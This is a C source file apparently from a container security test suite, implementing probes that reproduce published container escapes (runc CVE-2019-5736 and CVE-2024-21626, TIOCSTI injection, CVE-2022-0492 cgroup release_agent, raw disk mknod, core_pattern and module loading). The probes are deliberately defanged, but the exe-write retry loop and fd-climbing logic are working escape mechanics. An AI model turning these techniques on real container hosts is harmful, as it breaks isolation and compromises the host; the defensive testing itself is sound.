/*
 * probe_escape.c - vlab-probe commands of the security suite
 * (tests/security/, docs/security.md): each is a real attempt to reach the
 * host from inside a container, the way a published container escape did
 * it. Each prints what every step got (an errno name, or "ok") and
 * escaped=1 when it got through.
 *
 * Every command is also harmless on the host, where the suite runs some of
 * them to prove the attempt works when no container stands in the way:
 * nothing here writes to a kernel knob or a device. /proc/sysrq-trigger
 * and /proc/sys files are only opened for writing, never written; a block
 * device is only read; a host process is only signalled with 0 and
 * PTRACE_SEIZEd (which does not stop it); a cgroup hierarchy mounted by
 * `cgroupfs` is unmounted at once, its release_agent untouched. The one
 * writer, `exe-write`, writes only where the test points it: at a copy.
 *
 * (The classic chroot escape is `vlab-probe escape MARKER`, probe_fs.c.)
 */
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* How far `leaks` climbs "..": more than any real tree is deep. */
#define ESC_CLIMBS 64

/* What exe-write puts at the start of its target: a harmless script. */
static const char esc_payload[] = "#!/bin/false\n# vlab-probe exe-write\n";

static const char *esc_err(int err)
{
    const char *n = strerrorname_np(err);

    return n ? n : "E?";
}

/* "ok" for a call that returned >= 0, else the name of errno. */
static const char *esc_res(long ret)
{
    return ret >= 0 ? "ok" : esc_err(errno);
}

static double esc_now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* ---- exe-write: CVE-2019-5736 ------------------------------------------- */

/*
 * CVE-2019-5736 (runc): a container process reaches the runtime's binary
 * on the host through /proc/PID/exe of a runtime process that entered the
 * container, and overwrites it: the next `runc` anyone runs is the
 * attacker's. While the binary runs, open(O_WRONLY) fails with ETXTBSY
 * (execve(2), ERRORS), so the exploit keeps an O_PATH descriptor and
 * retries through /proc/self/fd/N until the runtime has exited.
 *
 * exe-write SEC PATH...: for each PATH (/proc/1/exe ...), try to open it
 * for writing now; keep an O_PATH fd, and if SEC > 0 leave a background
 * process that retries every 10 ms for SEC seconds after we exit. It
 * writes esc_payload at offset 0 of whatever it manages to open; the test
 * compares the target's bytes before and after.
 */
static bool exe_try_write(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    bool ok;

    if (fd < 0)
        return false;
    ok = pwrite(fd, esc_payload, sizeof(esc_payload) - 1, 0) > 0;
    close(fd);
    return ok;
}

static int cmd_exe_write(int argc, char **argv)
{
    int keep[16], nkeep = 0, written = 0;
    double sec;

    if (argc < 3) {
        fprintf(stderr, "usage: vlab-probe exe-write SEC PATH...\n");
        return 2;
    }
    sec = atof(argv[1]);
    for (int i = 2; i < argc; i++) {
        char key[32], target[PATH_MAX];
        ssize_t n = readlink(argv[i], target, sizeof(target) - 1);
        int fd;

        target[n > 0 ? n : 0] = '\0';
        snprintf(key, sizeof(key), "exe_%d_target", i - 2);
        probe_kv(key, "%s %s", argv[i], n > 0 ? target : esc_err(errno));
        snprintf(key, sizeof(key), "exe_%d_write", i - 2);
        if (exe_try_write(argv[i])) {
            probe_kv(key, "ok");
            written++;
            continue;
        }
        probe_kv(key, "%s", esc_err(errno));
        fd = open(argv[i], O_PATH | O_CLOEXEC);
        snprintf(key, sizeof(key), "exe_%d_opath", i - 2);
        probe_kv(key, "%s", esc_res(fd));
        if (fd >= 0 && nkeep < 16)
            keep[nkeep++] = fd;
        else if (fd >= 0)
            close(fd);
    }
    probe_kv("exe_written", "%d", written);
    if (sec <= 0 || nkeep == 0)
        return 0;

    /* The waiting half of the exploit: outlive us, and the runtime. */
    if (fork() == 0) {
        double end = esc_now() + sec;
        int null = open("/dev/null", O_RDWR);

        /* Let go of the test's pipes: it sees our parent end. */
        if (null >= 0) {
            dup2(null, 0);
            dup2(null, 1);
            dup2(null, 2);
        }
        setsid();
        while (nkeep > 0 && esc_now() < end) {
            for (int k = 0; k < nkeep; k++) {
                char self[32];

                snprintf(self, sizeof(self), "/proc/self/fd/%d", keep[k]);
                if (exe_try_write(self))
                    _exit(0);
            }
            usleep(10000);
        }
        _exit(1);
    }
    probe_kv("exe_retrying", "%.1f", sec);
    return 0;
}

/* ---- leaks: CVE-2024-21626 ----------------------------------------------- */

/*
 * CVE-2024-21626 (runc "Leaky Vessels"): a descriptor of the host's
 * /sys/fs/cgroup leaked into the container's process, and a working
 * directory set to /proc/self/fd/7, gave the container the host's whole
 * filesystem: ".." from a directory outside the container's root is
 * never stopped (path_resolution(7): only the process's own root is).
 *
 * From directory fd dir, climb ".." until it stops, then look for marker
 * (an absolute host path) from there. 1: found, the host is reachable.
 */
static int climb_finds(int dir, const char *marker)
{
    int cur = openat(dir, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int found;

    if (cur < 0)
        return 0;
    for (int i = 0; i < ESC_CLIMBS; i++) {
        int up = openat(cur, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

        if (up < 0)
            break;
        close(cur);
        cur = up;
    }
    found = faccessat(cur, marker + (marker[0] == '/'), F_OK, 0) == 0;
    close(cur);
    return found;
}

/* Enter mount namespace fd in a child and look for marker there. */
static int setns_finds(int fd, const char *marker, const char **why)
{
    int status;
    pid_t pid = fork();

    *why = "fork";
    if (pid < 0)
        return 0;
    if (pid == 0) {
        if (setns(fd, 0) < 0)
            _exit(10 + (errno & 0x7f));
        _exit(access(marker, F_OK) == 0 ? 1 : 0);
    }
    waitpid(pid, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) >= 10) {
        *why = esc_err(WEXITSTATUS(status) - 10);
        return 0;
    }
    *why = "ok";
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

/* The fds open in process `pid` ("self", "1"), but the listing's own:
 * "0,1,2" into out; each number also into fds (at most max). */
static int list_fds(const char *pid, char *out, size_t size, int *fds, int max)
{
    char path[64];
    DIR *d;
    struct dirent *e;
    int n = 0;

    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    out[0] = '\0';
    if (!(d = opendir(path)) && strcmp(pid, "self") == 0) {
        /* No /proc (a plain chroot): ask each fd number instead. */
        for (int fd = 0; fd < 1024; fd++) {
            size_t len = strlen(out);

            if (fcntl(fd, F_GETFD) < 0)
                continue;
            snprintf(out + len, size - len, "%s%d", len ? "," : "", fd);
            if (n < max)
                fds[n++] = fd;
        }
        return n;
    }
    if (!d) {
        snprintf(out, size, "%s", esc_err(errno));
        return -1;
    }
    while ((e = readdir(d))) {
        int fd = atoi(e->d_name);
        size_t len = strlen(out);

        if (e->d_name[0] == '.' || (!strcmp(pid, "self") && fd == dirfd(d)))
            continue;
        snprintf(out + len, size - len, "%s%d", len ? "," : "", fd);
        if (n < max)
            fds[n++] = fd;
    }
    closedir(d);
    return n;
}

/*
 * What one leaked fd reaches: own >= 0 is one of ours, used as it is
 * (path, if not NULL, only names it); else path (/proc/1/fd/N,
 * /proc/1/cwd) is opened. A namespace fd
 * (nsfs) is entered with setns(2); any other is climbed from as a
 * directory (what fchdir(2), or a cwd of /proc/self/fd/N, amounts to).
 */
static int leak_check(const char *prefix, int own, const char *path,
                      const char *marker)
{
    char key[48], target[PATH_MAX] = "";
    ssize_t n = path ? readlink(path, target, sizeof(target) - 1) : -1;
    struct statfs sfs;
    int fd, escaped = 0;

    target[n > 0 ? n : 0] = '\0';
    fd = own >= 0 ? own : open(path, O_RDONLY | O_CLOEXEC);
    snprintf(key, sizeof(key), "%s", prefix);
    probe_kv(key, "%s", n > 0 ? target : fd >= 0 ? "open" : esc_err(errno));
    if (fd >= 0 && fstatfs(fd, &sfs) == 0 && sfs.f_type == NSFS_MAGIC) {
        const char *why;

        escaped = setns_finds(fd, marker, &why);
        snprintf(key, sizeof(key), "%s_setns", prefix);
        probe_kv(key, "%s", why);
    } else {
        int dir =
            fd < 0 ? -1 : openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

        snprintf(key, sizeof(key), "%s_dir", prefix);
        probe_kv(key, "%s", dir >= 0 ? "ok" : esc_err(errno));
        if (dir >= 0) {
            escaped = climb_finds(dir, marker);
            close(dir);
        }
    }
    if (fd >= 0 && fd != own)
        close(fd);
    snprintf(key, sizeof(key), "%s_escaped", prefix);
    probe_kv(key, "%d", escaped);
    return escaped;
}

/*
 * leaks MARKER: which fds this process (and the container's PID 1) has
 * beyond 0-2, where the working directory is, and whether any of them
 * leads to MARKER, a file the test made on the host.
 */
static int cmd_leaks(int argc, char **argv)
{
    char list[512], cwd[PATH_MAX], path[64], key[32];
    int fds[64], n, escaped = 0;

    if (argc != 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: vlab-probe leaks /ABSOLUTE/MARKER\n");
        return 2;
    }
    probe_kv("marker_visible", "%d", access(argv[1], F_OK) == 0);
    n = list_fds("self", list, sizeof(list), fds, 64);
    probe_kv("fds", "%s", list);
    for (int i = 0; i < n; i++) {
        if (fds[i] <= 2)
            continue;
        snprintf(key, sizeof(key), "fd_%d", fds[i]);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
        escaped |= leak_check(key, fds[i], path, argv[1]);
    }
    probe_kv("cwd", "%s", getcwd(cwd, sizeof(cwd)) ? cwd : esc_err(errno));
    n = climb_finds(AT_FDCWD, argv[1]);
    probe_kv("cwd_escaped", "%d", n);
    escaped |= n;

    /* The container's PID 1 (a copy of the runtime): what it holds is
     * one open(/proc/1/fd/N) away, as runc's were in the CVE. */
    n = list_fds("1", list, sizeof(list), fds, 64);
    probe_kv("pid1_fds", "%s", list);
    for (int i = 0; i < n; i++) {
        snprintf(path, sizeof(path), "/proc/1/fd/%d", fds[i]);
        snprintf(key, sizeof(key), "pid1_fd_%d", fds[i]);
        escaped |= leak_check(key, -1, path, argv[1]);
    }
    escaped |= leak_check("pid1_cwd", -1, "/proc/1/cwd", argv[1]);
    probe_kv("escaped", "%d", escaped);
    return 0;
}

/* ---- tiocsti: CVE-2016-7545, CVE-2017-5226 ------------------------------ */

/*
 * TIOCSTI pushes bytes into a terminal's input queue as if typed
 * (ioctl_tty(2)): a container sharing the user's terminal can type a
 * command into the shell that runs after it (CVE-2016-7545 in SELinux's
 * sandbox, CVE-2017-5226 in bubblewrap). The kernel allows it on the
 * caller's controlling terminal, or with CAP_SYS_ADMIN; Linux 6.2 added
 * dev.tty.legacy_tiocsti to turn it off altogether.
 *
 * tiocsti TEXT: inject TEXT through fds 0, 1, 2 and /dev/tty; print each
 * result, and the session facts that decide it.
 */
static int cmd_tiocsti(int argc, char **argv)
{
    const char *names[] = {"fd0", "fd1", "fd2", "devtty"};
    int fds[4] = {0, 1, 2, -1}, escaped = 0;
    pid_t tty_sid = 0;

    if (argc != 2 || !argv[1][0]) {
        fprintf(stderr, "usage: vlab-probe tiocsti TEXT\n");
        return 2;
    }
    probe_kv("isatty0", "%d", isatty(0));
    probe_kv("sid", "%d", (int)getsid(0));
    probe_kv("tty_sid", "%s",
             ioctl(0, TIOCGSID, &tty_sid) < 0 ? esc_err(errno) : "ok");
    probe_kv("tty_sid_value", "%d", (int)tty_sid);
    fds[3] = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fds[3] < 0)
        probe_kv("devtty_open", "%s", esc_err(errno));
    for (int i = 0; i < 4; i++) {
        int r = 0;

        if (fds[i] < 0)
            continue;
        /* Only the first fd that works: one copy of TEXT is enough. */
        for (const char *c = argv[1]; *c && r == 0 && !escaped; c++)
            r = ioctl(fds[i], TIOCSTI, c);
        probe_kv(names[i], "%s", escaped ? "skipped" : esc_res(r));
        escaped |= r == 0;
    }
    if (fds[3] >= 0)
        close(fds[3]);
    probe_kv("escaped", "%d", escaped);
    return 0;
}

/* ---- mount-tmpfs: mount propagation ---------------------------------------
 */

/*
 * A mount made in a mount namespace whose mounts are still "shared" with
 * the host's (mount_namespaces(7), "Shared subtrees") appears on the host
 * too: a container could cover a host directory, or see host mounts come
 * and go. mount-tmpfs DIR SEC: mount a tmpfs on DIR, say ready=1, stay
 * SEC seconds so the host can look.
 */
static int cmd_mount_tmpfs(int argc, char **argv)
{
    struct timespec t;
    double sec;
    int r;

    if (argc != 3) {
        fprintf(stderr, "usage: vlab-probe mount-tmpfs DIR SEC\n");
        return 2;
    }
    sec = atof(argv[2]);
    r = mount("vlab-escape", argv[1], "tmpfs", MS_NOSUID | MS_NODEV,
              "size=16k");
    probe_kv("mount", "%s", esc_res(r));
    probe_kv("ready", "1");
    t.tv_sec = (time_t)sec;
    t.tv_nsec = (long)((sec - (double)t.tv_sec) * 1e9);
    while (nanosleep(&t, &t) < 0 && errno == EINTR)
        ;
    return 0;
}

/* ---- proc-write: /proc/sysrq-trigger, /proc/sys ----------------------------
 */

/*
 * One byte to /proc/sysrq-trigger reboots or crashes the host
 * (sysrq.rst); "|prog" in /proc/sys/kernel/core_pattern runs prog as
 * root on the host at the next crash anywhere (core(5)) - a classic
 * escape. Runtimes mask the first (/dev/null bound on it) and make /proc/sys
 * read-only. We open each for writing and look at what we got, and never
 * write.
 */
static void proc_open_check(const char *key, const char *path, int *escaped)
{
    struct stat st;
    int fd;

    if (stat(path, &st) < 0) {
        probe_kv(key, "%s", esc_err(errno));
        return;
    }
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        probe_kv(key, "%s", esc_err(errno));
        return;
    }
    if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) &&
        st.st_rdev == makedev(1, 3)) {
        probe_kv(key, "masked"); /* /dev/null: writes go nowhere */
    } else {
        probe_kv(key, "writable");
        *escaped = 1;
    }
    close(fd);
}

static int cmd_proc_write(int argc, char **argv)
{
    int escaped = 0;

    (void)argc, (void)argv;
    proc_open_check("sysrq_trigger", "/proc/sysrq-trigger", &escaped);
    proc_open_check("core_pattern", "/proc/sys/kernel/core_pattern", &escaped);
    probe_kv("escaped", "%d", escaped);
    return 0;
}

/* ---- module: loading kernel code ------------------------------------------
 */

/*
 * A kernel module runs with the kernel's privileges: loading one is the
 * end of every boundary. init_module(2) and finit_module(2) need
 * CAP_SYS_MODULE in the initial user namespace; Docker's seccomp profile
 * refuses them too. We offer an image that is not a module (the kernel
 * would say ENOEXEC after the checks), so nothing can ever load.
 */
/* Bit `cap` of the "Cap<set>:" line of /proc/self/status (proc(5)), or
 * -1 when it cannot be read. */
static int esc_has_cap(const char *set, int cap)
{
    char line[128], want[16];
    unsigned long long mask;
    int found = -1;
    FILE *f = fopen("/proc/self/status", "re");

    snprintf(want, sizeof(want), "Cap%s:", set);
    while (f && found < 0 && fgets(line, sizeof(line), f))
        if (!strncmp(line, want, strlen(want)) &&
            sscanf(line + strlen(want), "%llx", &mask) == 1)
            found = (int)((mask >> cap) & 1);
    if (f)
        fclose(f);
    return found;
}

static int cmd_module(int argc, char **argv)
{
    static const char junk[64] = "vlab-probe: not a kernel module";
    long r;
    int fd;

    (void)argc, (void)argv;
    probe_kv("cap_sys_module", "%d", esc_has_cap("Eff", CAP_SYS_MODULE));
    probe_kv("cap_sys_module_bounding", "%d",
             esc_has_cap("Bnd", CAP_SYS_MODULE));
    r = syscall(SYS_init_module, junk, sizeof(junk), "");
    probe_kv("init_module", "%s", esc_res(r));
    fd = memfd_create("vlab-module", MFD_CLOEXEC);
    if (fd >= 0 && write(fd, junk, sizeof(junk)) == (ssize_t)sizeof(junk)) {
        r = syscall(SYS_finit_module, fd, "", 0);
        probe_kv("finit_module", "%s", esc_res(r));
    } else {
        probe_kv("finit_module", "memfd:%s", esc_err(errno));
    }
    if (fd >= 0)
        close(fd);
    r = syscall(SYS_delete_module, "vlab_probe_none", O_NONBLOCK);
    probe_kv("delete_module", "%s", esc_res(r));
    return 0;
}

/* ---- rawdev: the host's disk ----------------------------------------------
 */

/*
 * With CAP_MKNOD a container can make a node for the host's disk and, if
 * nothing else stops it, read (and write) the host's filesystem under
 * everything: the device cgroup (devices.allow, or cgroup v2's BPF
 * program), a nodev mount, or a user namespace (mknod of a device needs
 * CAP_MKNOD in the initial one) must. rawdev MAJ MIN [DIR...]: make a
 * block node MAJ:MIN in each DIR (default /dev and /dev/shm), read 512
 * bytes through it, remove it; and list the devices /dev has.
 */
static void rawdev_try(const char *dir, unsigned maj, unsigned min,
                       int *escaped)
{
    char path[64], key[48];
    char sector[512];
    int fd;
    ssize_t n;

    snprintf(path, sizeof(path), "%s/vlab-raw-disk", dir);
    snprintf(key, sizeof(key), "mknod_%s", dir);
    unlink(path);
    if (mknod(path, S_IFBLK | 0600, makedev(maj, min)) < 0) {
        probe_kv(key, "%s", esc_err(errno));
        return;
    }
    probe_kv(key, "ok");
    snprintf(key, sizeof(key), "read_%s", dir);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        probe_kv(key, "%s", esc_err(errno));
    } else {
        n = read(fd, sector, sizeof(sector));
        probe_kv(key, "%s", n > 0 ? "ok" : esc_err(n < 0 ? errno : EIO));
        *escaped |= n > 0;
        close(fd);
    }
    unlink(path);
}

static int cmd_rawdev(int argc, char **argv)
{
    char list[1024] = "";
    DIR *d;
    struct dirent *e;
    int escaped = 0;

    if (argc < 3) {
        fprintf(stderr, "usage: vlab-probe rawdev MAJOR MINOR [DIR...]\n");
        return 2;
    }
    for (int i = 3; i < argc || (argc == 3 && i < 5); i++)
        rawdev_try(argc > 3 ? argv[i]
                   : i == 3 ? "/dev"
                            : "/dev/shm",
                   (unsigned)atoi(argv[1]), (unsigned)atoi(argv[2]), &escaped);
    /* "name:c|b:major:minor,..." of every device node directly in /dev. */
    if ((d = opendir("/dev"))) {
        while ((e = readdir(d))) {
            char path[300];
            struct stat st;
            size_t len = strlen(list);

            snprintf(path, sizeof(path), "/dev/%s", e->d_name);
            if (lstat(path, &st) < 0 ||
                !(S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
                continue;
            snprintf(list + len, sizeof(list) - len, "%s%s:%c:%u:%u",
                     len ? "," : "", e->d_name, S_ISBLK(st.st_mode) ? 'b' : 'c',
                     major(st.st_rdev), minor(st.st_rdev));
        }
        closedir(d);
    }
    probe_kv("dev_nodes", "%s", list);
    probe_kv("escaped", "%d", escaped);
    return 0;
}

/* ---- hostpid: signalling and tracing a host process -----------------------
 */

/*
 * A process can only signal or trace what its PID namespace shows it
 * (pid_namespaces(7)); a host pid names nothing inside the container (or
 * another process). hostpid PID: kill(PID, 0), PTRACE_SEIZE (does not
 * stop the tracee; we detach by exiting), and what /proc/PID is here.
 */
static int cmd_hostpid(int argc, char **argv)
{
    char path[64], comm[64] = "";
    pid_t pid;
    long r;
    FILE *f;

    if (argc != 2 || (pid = (pid_t)atoi(argv[1])) <= 1) {
        fprintf(stderr, "usage: vlab-probe hostpid PID (> 1)\n");
        return 2;
    }
    snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
    if ((f = fopen(path, "re"))) {
        if (fgets(comm, sizeof(comm), f))
            comm[strcspn(comm, "\n")] = '\0';
        fclose(f);
    }
    probe_kv("proc_comm", "%s", comm[0] ? comm : "none");
    r = kill(pid, 0);
    probe_kv("kill", "%s", esc_res(r));
    r = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
    probe_kv("ptrace", "%s", esc_res(r));
    return 0;
}

/* ---- keyring: the kernel's keys -------------------------------------------
 */

/*
 * Keyrings are per user, and not namespaced but by user namespace
 * (keyrings(7)): root in a container without one shares root's user
 * keyring with the host. Docker's seccomp profile refuses keyctl(2),
 * add_key(2) and request_key(2) for this. keyring: the id of our user
 * keyring (the test compares it with the host's); nothing is added.
 */
static int cmd_keyring(int argc, char **argv)
{
    long id;

    (void)argc, (void)argv;
    id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
    if (id < 0)
        probe_kv("user_keyring", "%s", esc_err(errno));
    else
        probe_kv("user_keyring", "%ld", id);
    return 0;
}

/* ---- cgroupfs: CVE-2022-0492 ----------------------------------------------
 */

/*
 * CVE-2022-0492: a cgroup v1 hierarchy mounted inside a container has a
 * release_agent file; the kernel runs the program it names, as root on
 * the host, when a cgroup empties. Mounting needs CAP_SYS_ADMIN (and,
 * since the fix, the initial user namespace for release_agent). cgroupfs:
 * mkdir in /sys/fs/cgroup, mount a v1 hierarchy on /dev/shm/vlab-cg; if it
 * mounts, note release_agent and unmount at once - never written.
 */
static int cmd_cgroupfs(int argc, char **argv)
{
    const char *dir = "/dev/shm/vlab-cg";
    const char *ctrls[] = {"memory", "pids", "rdma", "none,name=vlab"};
    int escaped = 0, r = -1;

    (void)argc, (void)argv;
    r = mkdir("/sys/fs/cgroup/vlab-escape", 0755);
    probe_kv("cgroup_mkdir", "%s", esc_res(r));
    if (r == 0) {
        rmdir("/sys/fs/cgroup/vlab-escape");
        escaped = 1;
    }
    if (mkdir(dir, 0700) < 0 && errno != EEXIST) {
        probe_kv("cgroup_mount", "mkdir:%s", esc_err(errno));
        probe_kv("escaped", "%d", escaped);
        return 0;
    }
    for (size_t i = 0; i < sizeof(ctrls) / sizeof(ctrls[0]); i++) {
        r = mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC,
                  ctrls[i]);
        if (r == 0) {
            char agent[64];

            snprintf(agent, sizeof(agent), "%s/release_agent", dir);
            probe_kv("cgroup_mount", "ok %s", ctrls[i]);
            probe_kv("release_agent", "%d", access(agent, W_OK) == 0);
            escaped = 1;
            umount2(dir, MNT_DETACH);
            break;
        }
    }
    if (r < 0)
        probe_kv("cgroup_mount", "%s", esc_err(errno));
    rmdir(dir);
    probe_kv("escaped", "%d", escaped);
    return 0;
}

const struct probe_cmd probe_cmds_escape[] = {
    {"exe-write",
     "exe-write SEC PATH...: open PATH (/proc/1/exe) for writing, retry "
     "SEC s in the background (CVE-2019-5736)",
     cmd_exe_write},
    {"leaks",
     "leaks MARKER: fds and cwd of ours and PID 1's; escaped=1 if one leads "
     "to MARKER (CVE-2024-21626)",
     cmd_leaks},
    {"tiocsti", "tiocsti TEXT: type TEXT into our terminal (TIOCSTI)",
     cmd_tiocsti},
    {"mount-tmpfs", "mount-tmpfs DIR SEC: mount a tmpfs on DIR, stay SEC s",
     cmd_mount_tmpfs},
    {"proc-write",
     "proc-write: open /proc/sysrq-trigger, core_pattern for writing "
     "(never writes)",
     cmd_proc_write},
    {"module", "module: init_module, finit_module, delete_module (junk)",
     cmd_module},
    {"rawdev", "rawdev MAJ MIN: mknod the host's disk, read 512 bytes",
     cmd_rawdev},
    {"hostpid", "hostpid PID: kill(PID, 0), PTRACE_SEIZE, /proc/PID",
     cmd_hostpid},
    {"keyring", "keyring: the id of our user keyring (keyctl)", cmd_keyring},
    {"cgroupfs",
     "cgroupfs: mkdir in /sys/fs/cgroup, mount a cgroup v1 hierarchy "
     "(CVE-2022-0492; unmounted at once)",
     cmd_cgroupfs},
    {NULL, NULL, NULL},
};
